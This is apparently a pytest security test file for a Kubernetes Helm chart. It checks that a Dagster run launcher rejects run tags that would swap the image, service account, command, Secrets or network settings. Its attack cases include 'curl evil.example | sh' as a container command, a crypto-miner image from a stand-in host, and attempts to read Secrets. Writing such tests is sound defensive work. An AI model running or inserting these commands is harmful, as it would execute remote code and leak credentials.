"""Dagster cannot be turned into a way to run any image (issue 23, item 3): the run launcher of
helm/values/dagster.yaml, built by dagster-k8s itself from that configuration, refuses a run whose
`dagster-k8s/config` tag asks for another image, service account, command, volume, Secret or
environment variable, and launches every run as the kappa chart's run account."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from helmtools import CHART, ROOT

DAGSTER_VALUES = yaml.safe_load((ROOT / "helm" / "values" / "dagster.yaml").read_text())
KAPPA_VALUES = yaml.safe_load((CHART / "values.yaml").read_text())
EVIL = "evil.example/miner:latest"


def build_launcher(workdir: Path):
    """dagster-k8s's K8sRunLauncher from the configuration the Dagster release gets, validated
    against the launcher's own config schema (a misspelt key fails here). It reads a kubeconfig
    written to ``workdir`` (no API call is made: the launcher only builds the run's Job here)."""
    from dagster._config import process_config
    from dagster_k8s import K8sRunLauncher

    custom = DAGSTER_VALUES["runLauncher"]["config"]["customRunLauncher"]
    assert (custom["module"], custom["class"]) == ("dagster_k8s", "K8sRunLauncher")
    kubeconfig = workdir / "kubeconfig"
    kubeconfig.write_text(yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": "c",
        "clusters": [{"name": "c", "cluster": {"server": "https://127.0.0.1:1"}}],
        "users": [{"name": "u", "user": {"token": "t"}}],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}]}))
    config = {**custom["config"], "load_incluster_config": False, "kubeconfig_file": str(kubeconfig)}
    result = process_config(K8sRunLauncher.config_type(), config)
    assert result.success, [e.message for e in result.errors]
    return K8sRunLauncher(inst_data=None, **result.value)


@pytest.fixture(scope="module")
def launcher(tmp_path_factory):
    return build_launcher(tmp_path_factory.mktemp("kube"))


def _context(launcher, k8s_config: dict | None):
    from dagster import DagsterRun

    tags = {"dagster-k8s/config": json.dumps(k8s_config)} if k8s_config is not None else {}
    return launcher.get_container_context_for_run(DagsterRun(job_name="replay", run_id="r1", tags=tags))


def run_job(launcher, k8s_config: dict | None = None, image: str = "registry.example.com/kappa/kappa:0.1.0") -> dict:
    """The Job the launcher creates for a run with ``k8s_config`` as its `dagster-k8s/config` tag
    (the steps of K8sRunLauncher._launch_k8s_job_with_args), as the API would receive it."""
    from dagster_k8s.job import construct_dagster_k8s_job
    from kubernetes.client import ApiClient

    ctx = _context(launcher, k8s_config)
    job = construct_dagster_k8s_job(
        job_config=ctx.get_k8s_job_config(job_image=image, run_launcher=launcher),
        args=["dagster", "api", "execute_run", "{}"], job_name="dagster-run-r1", pod_name="dagster-run-r1",
        component="run_worker", user_defined_k8s_config=ctx.run_k8s_config, labels={"dagster/run-id": "r1"})
    return ApiClient().sanitize_for_serialization(job)


def test_a_run_is_launched_as_the_run_account_with_the_chart_settings(launcher):
    assert DAGSTER_VALUES["runLauncher"]["type"] == "CustomRunLauncher"
    pod = run_job(launcher)["spec"]["template"]
    assert pod["spec"]["serviceAccountName"] == KAPPA_VALUES["dagster"]["runServiceAccount"] == "kappa-dagster-run"
    assert pod["metadata"]["labels"]["kappa.dev/kafka-client"] == "true"
    assert pod["metadata"]["labels"]["app.kubernetes.io/component"] == "run_worker"  # networkPolicy.runPodLabels
    (ctr,) = pod["spec"]["containers"]
    assert ctr["image"] == "registry.example.com/kappa/kappa:0.1.0"
    assert {"configMapRef": {"name": "kappa-config"}} in ctr["envFrom"]
    assert ctr["securityContext"]["allowPrivilegeEscalation"] is False
    # the Dagster chart's own Role (pods create) is off; the kappa chart binds a narrower one
    assert DAGSTER_VALUES["rbacEnabled"] is False


def test_a_run_may_size_its_container_and_nothing_else(launcher):
    pod = run_job(launcher, {"container_config": {"resources": {"limits": {"memory": "8Gi"}}}})["spec"]["template"]
    assert pod["spec"]["containers"][0]["resources"] == {"limits": {"memory": "8Gi"}}
    assert pod["spec"]["serviceAccountName"] == "kappa-dagster-run"


@pytest.mark.parametrize("attack", [
    {"container_config": {"image": EVIL}},
    {"pod_spec_config": {"service_account_name": "kappa-dagster"}},
    {"pod_spec_config": {"serviceAccountName": "kappa-spark"}},
    {"container_config": {"command": ["sh", "-c", "curl evil.example | sh"]}},
    {"container_config": {"env": [{"name": "PG", "value_from": {"secret_key_ref": {
        "name": "kappa-serve-users", "key": "users"}}}]}},
    {"pod_spec_config": {"volumes": [{"name": "s", "secret": {"secret_name": "kappa-serve-users"}}]}},
    {"pod_spec_config": {"host_network": True}},
    {"pod_template_spec_metadata": {"labels": {"kappa.dev/sql-client": "true"}}},
], ids=["image", "service account", "service account (camelCase)", "command", "a Secret in env",
        "a Secret volume", "host network", "a label the network policies trust"])
def test_a_run_tag_that_sets_anything_else_is_refused(launcher, attack):
    with pytest.raises(Exception, match="violated the allowed list"):
        _context(launcher, attack)


def test_the_code_location_runs_as_its_own_account_and_passes_nothing_to_runs():
    (deployment,) = DAGSTER_VALUES["dagster-user-deployments"]["deployments"]
    assert deployment["serviceAccount"] == {"create": False, "name": KAPPA_VALUES["dagster"]["codeLocationServiceAccount"]}
    # the code location's Kubernetes settings would reach runs as their container context otherwise
    assert deployment["includeConfigInLaunchedRuns"] == {"enabled": False}
    assert DAGSTER_VALUES["global"]["serviceAccountName"] == KAPPA_VALUES["dagster"]["serviceAccount"]
